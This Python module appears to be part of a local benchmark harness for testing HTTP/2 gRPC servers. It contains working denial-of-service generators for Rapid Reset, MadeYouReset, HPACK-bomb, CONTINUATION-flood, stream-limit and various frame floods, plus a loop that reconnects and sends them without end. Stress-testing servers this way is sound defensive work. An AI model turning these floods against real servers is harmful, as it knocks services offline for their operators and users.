"""What goes out on each connection of an attacker, again and again until the server hangs up. Owns bytes only."""

from __future__ import annotations

import socket
import struct
import time
from collections.abc import Iterator

from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
ECHO_PATH, STALL_PATH = "/bench/Echo", "/bench/Stall"


def frame(kind: int, flags: int, stream_id: int, body: bytes = b"") -> bytes:
    """One HTTP/2 frame, nothing checked."""
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + body


def request(stream_id: int, path: str, *extra: tuple[bytes, bytes], flags: int = 4) -> bytes:
    """The headers of a call, in a block that depends on no other."""
    pseudo = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()), (b":authority", b"bench")]
    fields = [*pseudo, (b"te", b"trailers"), (b"content-type", b"application/grpc"), *extra]
    return frame(HEADERS, flags, stream_id, Encoder().encode(fields))


# -- the attacks: what goes out on each connection, again and again until the server hangs up ---------------


def rapid_reset() -> Iterator[bytes]:
    """HEADERS and RST_STREAM."""
    for first in range(1, 2**31, 2000):
        yield b"".join(
            request(number, STALL_PATH) + frame(RST_STREAM, 0, number, struct.pack(">I", 8))
            for number in range(first, first + 2000, 2)
        )


def made_you_reset() -> Iterator[bytes]:
    """HEADERS and a WINDOW_UPDATE that overflows."""
    overflow = struct.pack(">I", 2**31 - 1)
    for first in range(1, 2**31, 2000):
        yield b"".join(
            request(number, STALL_PATH) + frame(WINDOW_UPDATE, 0, number, overflow)
            for number in range(first, first + 2000, 2)
        )


def bombs() -> Iterator[bytes]:
    """One table entry and many mentions of it, just within the limits, on calls that are refused."""
    entry = b"\x40\x01b\x7f" + bytes([3000 - 127 & 127 | 128, 3000 - 127 >> 7]) + b"z" * 3000
    for number in range(1, 2**31, 2):
        yield frame(HEADERS, 5, number, entry + b"\xbe" * 8)


def continuations() -> Iterator[bytes]:
    """A header block in eight crumbs each time."""
    for number in range(1, 2**31, 2):
        yield request(number, STALL_PATH, flags=1) + frame(CONTINUATION, 0, number) * 7 + frame(CONTINUATION, 4, number)


def opens() -> Iterator[bytes]:
    """More calls than allowed, for ever."""
    for first in range(1, 2**31, 2000):
        yield b"".join(request(number, STALL_PATH) for number in range(first, first + 2000, 2))


def repeated(one: bytes, *, opening: bytes = b"") -> Iterator[bytes]:
    """The same frame."""
    yield opening
    while True:
        yield one * (65_536 // len(one))


ATTACKS = {
    "nothing": None,
    "rapid reset": rapid_reset,
    "made you reset": made_you_reset,
    "bombs": bombs,
    "continuations": continuations,
    "opens": opens,
    "pings": lambda: repeated(frame(PING, 0, 0, bytes(8))),
    "settings": lambda: repeated(frame(SETTINGS, 0, 0)),
    "empty data": lambda: repeated(frame(DATA, 0, 1), opening=request(1, STALL_PATH)),
    "priority": lambda: repeated(frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 5))),
    "unknown frames": lambda: repeated(frame(0x55, 0, 0)),
    "size updates": lambda: repeated(frame(HEADERS, 5, 1, b"\x20" * 16_000)),
    "frames of 16 MB": lambda: repeated(b"\xff\xff\xff\0\0\0\0\0\1" + bytes(60_000)),
}


def attack(name: str, port: int) -> None:
    """Attack until killed: connect, send until the server hangs up, pause for a tenth of a second."""
    make = ATTACKS[name]
    while make is not None:
        with socket.create_connection(("127.0.0.1", port)) as peer:
            try:
                peer.sendall(PREFACE + frame(SETTINGS, 0, 0))
                for data in make():
                    peer.sendall(data)
                    peer.settimeout(0)
                    _drain(peer)
                    peer.settimeout(5)
            except OSError:
                pass
        time.sleep(0.1)


def _drain(peer: socket.socket) -> None:
    try:
        while peer.recv(1 << 20):
            pass
    except BlockingIOError:
        return
    raise ConnectionResetError
